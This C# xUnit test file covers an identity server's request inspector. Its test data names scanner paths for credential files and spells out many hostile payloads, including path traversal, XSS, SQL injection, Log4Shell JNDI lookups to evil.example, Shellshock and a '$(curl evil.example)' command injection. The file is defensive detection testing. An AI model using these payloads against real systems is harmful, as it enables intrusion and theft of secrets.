using System.Net;
using Cosmo.Identity.Requests;
using Cosmo.Identity.SecurityEvents;
using Cosmo.Identity.Threats.Inspection;
using Microsoft.AspNetCore.Http;
using Microsoft.AspNetCore.Http.Features;
using Shouldly;
using Xunit;

namespace Cosmo.Identity.Tests.Threats.Inspection;

/// <summary>What attackers send is seen in every spelling; what clients and people send is not taken for it (ASVS 1.3, XSS-01, OAUTH-10).</summary>
public sealed class RequestInspectorTests
{
    private const string Browser = "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0.0.0 Safari/537.36";
    private const string Authorize = "/connect/authorize?client_id=web&response_type=code&redirect_uri=https%3A%2F%2Fweb.example.test%2Fcallback&scope=openid+profile";

    private readonly RequestInspector _inspector = new();

    [Theory]
    [InlineData("/")]
    [InlineData("/login")]
    [InlineData("/consent?request=CfDJ8Jxs-2_kQ")]
    [InlineData("/assets/site.css")]
    [InlineData("/favicon.ico")]
    [InlineData("/robots.txt")]
    [InlineData("/apple-touch-icon.png")]
    [InlineData("/.well-known/openid-configuration")]
    [InlineData("/.well-known/security.txt")]
    [InlineData("/.well-known/webfinger?resource=acct%3Aada%40example.test&rel=http%3A%2F%2Fopenid.net%2Fspecs%2Fconnect%2F1.0%2Fissuer")]
    [InlineData("/api/v1/account/sessions/0192f3a0-1111-7222-8333-444455556666")]
    [InlineData("/connect/userinfo")]
    [InlineData(Authorize)]
    [InlineData(Authorize + "&state=abc.def-ghi_jkl~mno&nonce=n-0S6_WzA2Mj&code_challenge=E9Melhoa2OwvFrEMTJguCHaoeK1t8URWbuGJSstw-cM&code_challenge_method=S256")]
    // State and nonce belong to the client: JSON, URLs, HTML, whatever.
    [InlineData(Authorize + "&state=%7B%22returnTo%22%3A%22%2Forders%3Fid%3D1%26sort%3D-date%22%2C%22csrf%22%3A%22x%27--%22%7D")]
    [InlineData(Authorize + "&state=%3Cscript%3Ealert(1)%3C%2Fscript%3E&nonce=%27%20or%201%3D1--")]
    [InlineData(Authorize + "&state=..%2F..%2F..%2Fhome&nonce=%24%7Bjndi%3Aldap%3A%2F%2Fx%7D")]
    [InlineData(Authorize + "&state=https%3A%2F%2Fapp.example.test%2F%3Fa%3Db%2526c%3Dd%23%2Froute%2F%7B%7Bid%7D%7D")]
    [InlineData(Authorize + "&claims=%7B%22userinfo%22%3A%7B%22email%22%3A%7B%22essential%22%3Atrue%7D%2C%22picture%22%3Anull%7D%2C%22id_token%22%3A%7B%22auth_time%22%3A%7B%22essential%22%3Atrue%7D%2C%22acr%22%3A%7B%22values%22%3A%5B%22urn%3Amace%3Aincommon%3Aiap%3Asilver%22%5D%7D%7D%7D")]
    [InlineData(Authorize + "&login_hint=ada.o%27brien%2Bwork%40example.test")]
    [InlineData(Authorize + "&login_hint=%22Ada%20Lovelace%22%20%3Cada%40example.test%3E")]
    [InlineData(Authorize + "&ui_locales=de-CH+fr&acr_values=urn%3Aexample%3Aloa2&prompt=login+consent&max_age=0&display=popup")]
    [InlineData(Authorize + "&id_token_hint=eyJhbGciOiJSUzI1NiJ9.eyJzdWIiOiIxIn0.c2ln&resource=https%3A%2F%2Fapi.example.test%2Fv1%2F")]
    [InlineData("/connect/authorize?client_id=native&redirect_uri=com.example.app%3A%2Fcallback&response_type=code&scope=openid%20orders.read%20offline_access")]
    [InlineData("/connect/authorize?client_id=web&redirect_uri=https%3A%2F%2Fweb.example.test%2Fsecond%3Ftenant%3D7%26next%3D%2Fa%2Fb%3Fc%3Dd%26onload%3D1&response_type=code")]
    [InlineData("/connect/authorize?client_id=web&redirect_uri=https%3A%2F%2Fapp.example.test%2Fa%3Bid%3D5%2Fcb%3Bjsessionid%3Dx&response_type=code")]
    [InlineData("/connect/authorize?client_id=web&redirect_uri=https%3A%2F%2Fweb.example.test%2Fa%2F..%2Fcallback&response_type=code")]
    [InlineData("/connect/authorize?client_id=student-union&scope=openid+selection&login_hint=and+or+not")]
    [InlineData("/connect/authorize?client_id={{client_id}}&state={{state}}")]
    [InlineData("/connect/logout?id_token_hint=eyJ.a.b&post_logout_redirect_uri=https%3A%2F%2Fweb.example.test%2Fsigned-out%3Fx%3D%27y%27&state=%22%3E%3C%2Fa%3E")]
    [InlineData("/login?ReturnUrl=%2Fconnect%2Fauthorize%3Fstate%3D%253Cscript%253E%26nonce%3D..%252F..%252F..")]
    [InlineData("/connect/authorize?client_id=web&request_uri=urn%3Aietf%3Aparams%3Aoauth%3Arequest_uri%3AbN7mK3jH9gF2dS6aP1oI5uY8tR4eW0qZ")]
    [InlineData("/connect/authorize?request=eyJhbGciOiJub25lIn0.eyJhIjoiPHNjcmlwdD4ifQ.&client_id=web")]
    [InlineData("/?utm_source=mail&utm_campaign=it%27s%20on%20%26%20off%3B%20sale")]
    public void A_good_request_is_left_alone(string target)
    {
        Inspect(target).ShouldBeEmpty();
    }

    [Theory]
    [InlineData("curl/8.5.0")]
    [InlineData("Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)")]
    [InlineData("okhttp/4.12.0")]
    [InlineData("My App/1.0 (iPhone; iOS 17.4; Scale/3.00) {build: 7}")]
    [InlineData("European Union Browser/1.0 (select edition)")]
    [InlineData("")]
    public void A_good_user_agent_is_left_alone(string userAgent)
    {
        Inspect("/login", userAgent).ShouldBeEmpty();
    }

    [Theory]
    [InlineData("/.env")]
    [InlineData("/.env.production")]
    [InlineData("/api/.env")]
    [InlineData("/assets/.env")]
    [InlineData("/.git/config")]
    [InlineData("/.git/HEAD")]
    [InlineData("/.svn/entries")]
    [InlineData("/.aws/credentials")]
    [InlineData("/.ssh/id_rsa")]
    [InlineData("/.DS_Store")]
    [InlineData("/.htpasswd")]
    [InlineData("/.vscode/sftp.json")]
    [InlineData("/wp-login.php")]
    [InlineData("/WP-Login.PHP")]
    [InlineData("/blog/wp-includes/wlwmanifest.xml")]
    [InlineData("/xmlrpc.php")]
    [InlineData("/index.php")]
    [InlineData("/phpmyadmin/")]
    [InlineData("/PMA/index")]
    [InlineData("/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php")]
    [InlineData("/_ignition/execute-solution")]
    [InlineData("/actuator/env")]
    [InlineData("/actuator/gateway/routes")]
    [InlineData("/cgi-bin/luci")]
    [InlineData("/default.asp")]
    [InlineData("/login.aspx")]
    [InlineData("/index.jsp")]
    [InlineData("/struts2-showcase/index.action")]
    [InlineData("/manager/html")]
    [InlineData("/jmx-console/")]
    [InlineData("/solr/admin/info/system")]
    [InlineData("/server-status")]
    [InlineData("/HNAP1/")]
    [InlineData("/boaform/admin/formLogin")]
    [InlineData("/dana-na/auth/url_default/welcome.cgi")]
    [InlineData("/+CSCOE+/logon.html")]
    [InlineData("/owa/auth/logon.aspx")]
    [InlineData("/web.config")]
    [InlineData("/appsettings.json")]
    [InlineData("/backup.zip")]
    [InlineData("/dump.sql")]
    [InlineData("/site.tar.gz")]
    [InlineData("/v2/_catalog")]
    [InlineData("/swagger-ui.html")]
    public void A_path_that_only_scanners_ask_for_is_known(string path)
    {
        Inspect(path).ShouldBe([SecurityEventType.ScannerPathRequested]);
    }

    [Theory]
    [InlineData("/../../etc/hostname")]
    [InlineData("/assets/../../secret")]
    [InlineData("/assets/..%2f..%2fsecret")]
    [InlineData("/assets/%2e%2e/%2e%2e/secret")]
    [InlineData("/assets/%2E%2E%5Csecret")]
    [InlineData("/assets/..\\..\\secret")]
    [InlineData("/assets/..%5c..%5csecret")]
    [InlineData("/assets/%252e%252e%252fsecret")]
    [InlineData("/assets/..%252f..%252fsecret")]
    [InlineData("/assets/%25252e%25252e%25252fsecret")]
    [InlineData("/assets/..;/secret")]
    [InlineData("/assets/%c0%ae%c0%ae/secret")]
    [InlineData("/assets/..%c0%afsecret")]
    [InlineData("/assets/%e0%80%ae%e0%80%ae/secret")]
    [InlineData("/login?file=../../../../var/log")]
    [InlineData("/login?file=..%2f..%2f..%2fvar%2flog")]
    [InlineData("/login?file=%252e%252e%252f%252e%252e%252fvar")]
    [InlineData("/login?page=..\\..\\..\\windows")]
    [InlineData("/login?page=/etc/passwd")]
    [InlineData("/login?page=%2Fproc%2Fself%2Fenviron")]
    [InlineData("/connect/authorize?client_id=..%2f..%2f..%2f")]
    [InlineData("http://id.example.test/assets/../../secret")]
    public void A_way_out_of_the_folder_is_seen_in_every_spelling(string target)
    {
        Inspect(target).ShouldBe([SecurityEventType.PathTraversalTried]);
    }

    [Theory]
    // Script.
    [InlineData("/?q=<script>alert(1)</script>", "script")]
    [InlineData("/?q=%3Cscript%3Ealert(1)%3C/script%3E", "script")]
    [InlineData("/?q=%253Cscript%253Ealert(1)%253C/script%253E", "script")]
    [InlineData("/?q=%3Cimg+src%3Dx+onerror%3Dalert(1)%3E", "script")]
    [InlineData("/?q=%22%3E%3Csvg/onload=confirm`1`%3E", "script")]
    [InlineData("/?q=x%22+onfocus%3Dalert(1)+autofocus", "script")]
    [InlineData("/connect/authorize?client_id=web&redirect_uri=javascript:alert(1)", "script")]
    [InlineData("/connect/authorize?client_id=web&redirect_uri=javascript%3Aalert%281%29", "script")]
    [InlineData("/%3Cscript%3Ealert(1)%3C/script%3E", "script")]
    [InlineData("/?q=document.cookie", "script")]
    // SQL.
    [InlineData("/?id=1'+or+'1'='1", "sql")]
    [InlineData("/?id=1%27%20OR%20%271%27%3D%271", "sql")]
    [InlineData("/?id=1+or+1=1", "sql")]
    [InlineData("/?id=1%20AND%201%3D1", "sql")]
    [InlineData("/?id=1+UNION+SELECT+null,null", "sql")]
    [InlineData("/?id=1%20UNION%20ALL%20SELECT%20password%20FROM%20users", "sql")]
    [InlineData("/?id=1/**/union/**/select/**/1", "sql")]
    [InlineData("/?id=1;WAITFOR+DELAY+'0:0:5'--", "sql")]
    [InlineData("/?id=1+and+sleep(5)", "sql")]
    [InlineData("/?id=1';SELECT+pg_sleep(5)--", "sql")]
    [InlineData("/?id=benchmark(10000000,md5(1))", "sql")]
    [InlineData("/?id=1;drop+table+users", "sql")]
    [InlineData("/?user=admin'--", "sql")]
    [InlineData("/?q=information_schema.tables", "sql")]
    [InlineData("/connect/authorize?client_id=web'%20or%20'a'%3D'a&scope=openid", "sql")]
    // Templates and lookups.
    [InlineData("/?q={{7*7}}", "template")]
    [InlineData("/?q=%7B%7B7*7%7D%7D", "template")]
    [InlineData("/?q=${7*7}", "template")]
    [InlineData("/?q=%24%7B7*7%7D", "template")]
    [InlineData("/?q=#{7*7}", "template")]
    [InlineData("/?q=%23%7B7*7%7D", "template")]
    [InlineData("/?q=<%=7*7%>", "template")]
    [InlineData("/?q={{config}}", "template")]
    [InlineData("/?q=${T(java.lang.Runtime).getRuntime()}", "template")]
    [InlineData("/?q=${jndi:ldap://evil.example/a}", "lookup")]
    [InlineData("/?q=%24%7Bjndi%3Aldap%3A%2F%2Fevil.example%2Fa%7D", "lookup")]
    [InlineData("/?q=${${lower:j}ndi:ldap://evil.example/a}", "lookup")]
    [InlineData("/?q=${${::-j}${::-n}di:rmi://evil.example/a}", "lookup")]
    [InlineData("/${jndi:ldap://evil.example/a}", "lookup")]
    // Lines.
    [InlineData("/?lang=en%0d%0aSet-Cookie:%20a=b", "crlf")]
    [InlineData("/?lang=en%0aLocation:%20https://evil.example", "crlf")]
    [InlineData("/?lang=en%250d%250aX-Injected:%20y", "crlf")]
    [InlineData("/?lang=%0d%0a%0d%0a<html>", "crlf")]
    // Shell.
    [InlineData("/?host=1;cat+/x", "command")]
    [InlineData("/?host=1%7Cwhoami", "command")]
    [InlineData("/?host=$(curl+evil.example)", "command")]
    [InlineData("/?host=%60id%60", "command")]
    [InlineData("/?cmd=/bin/sh", "command")]
    public void A_probe_is_seen_and_named(string target, string pattern)
    {
        var findings = _inspector.Inspect(Context(target, Browser)).ShouldNotBeNull(target);

        findings.ShouldHaveSingleItem().Type.ShouldBe(SecurityEventType.InjectionProbed);
        findings[0].Pattern.ShouldBe(pattern);
    }

    [Theory]
    [InlineData("User-Agent", "${jndi:ldap://evil.example/a}")]
    [InlineData("User-Agent", "Mozilla/5.0 ${${env:X:-j}ndi:ldap://evil.example/a}")]
    [InlineData("User-Agent", "() { :;}; /bin/bash -c 'id'")]
    [InlineData("User-Agent", "<script>alert(1)</script>")]
    [InlineData("User-Agent", "x' or '1'='1")]
    [InlineData("Referer", "https://x.example/${jndi:dns://evil.example}")]
    [InlineData("Accept-Language", "${jndi:ldap://evil.example/a}")]
    [InlineData("Origin", "<script>alert(1)</script>")]
    public void A_probe_in_a_header_is_seen(string header, string value)
    {
        var context = Context("/login", Browser);
        context.Request.Headers[header] = value;

        var finding = _inspector.Inspect(context).ShouldNotBeNull().ShouldHaveSingleItem();

        finding.Type.ShouldBe(SecurityEventType.InjectionProbed);
        finding.Where.ShouldBe("header:" + header);
    }

    [Fact]
    public void A_request_that_tries_everything_is_one_fact_of_each_kind()
    {
        Inspect("/.env/../../x?a=<script>&b='+or+'1'='1&c=../../../etc/passwd").ShouldBe(
            [SecurityEventType.ScannerPathRequested, SecurityEventType.PathTraversalTried, SecurityEventType.InjectionProbed], ignoreOrder: true);
    }

    [Fact]
    public void Where_it_stood_is_told_and_what_was_written_is_not()
    {
        var findings = _inspector.Inspect(Context("/login?pass%0Aword\u202e=hunter2'+or+'1'='1", Browser)).ShouldNotBeNull();

        findings[0].Where.ShouldStartWith("query:pass%0Aword");
        findings[0].ToString().ShouldNotContain("hunter2");
        findings[0].ToString().ShouldNotContain("\u202e");
    }

    [Fact]
    public void A_target_of_32_KB_of_the_worst_is_judged_in_no_time()
    {
        foreach (var unit in new[] { "'or", "%27 or ", "${", "{{", "%25", "union/**/", "<", "../", "&a='" })
        {
            var target = "/?q=" + string.Concat(Enumerable.Repeat(unit, 32_000 / unit.Length));
            Inspect(target);
            var watch = System.Diagnostics.Stopwatch.StartNew();

            Inspect(target);

            watch.ElapsedMilliseconds.ShouldBeLessThan(200, unit);
        }
    }

    [Fact]
    public void A_good_request_costs_no_allocation()
    {
        var context = Context(Authorize + "&state=abc.def-ghi_jkl~mno&nonce=n-0S6_WzA2Mj&code_challenge=E9Melhoa2OwvFrEMTJguCHaoeK1t8URWbuGJSstw-cM&code_challenge_method=S256", Browser);
        for (var i = 0; i < 100; i++)
        {
            _inspector.Inspect(context).ShouldBeNull();
        }

        var before = GC.GetAllocatedBytesForCurrentThread();
        for (var i = 0; i < 1000; i++)
        {
            _inspector.Inspect(context);
        }

        (GC.GetAllocatedBytesForCurrentThread() - before).ShouldBe(0);
    }

    private IEnumerable<SecurityEventType> Inspect(string target, string userAgent = Browser) =>
        _inspector.Inspect(Context(target, userAgent))?.Select(finding => finding.Type) ?? [];

    /// <summary>A request as the server would have it: dot segments taken out of the path, the raw target kept.</summary>
    private static DefaultHttpContext Context(string target, string userAgent)
    {
        var context = new DefaultHttpContext();
        context.Features.Set(new RequestOrigin(IPAddress.Loopback, userAgent));
        context.Features.GetRequiredFeature<IHttpRequestFeature>().RawTarget = target;
        var path = target.StartsWith("http", StringComparison.Ordinal) ? target[target.IndexOf('/', "http://".Length)..] : target;
        context.Request.Path = Uri.UnescapeDataString(path.Split('?')[0]);
        context.Request.Headers.UserAgent = userAgent;
        return context;
    }
}
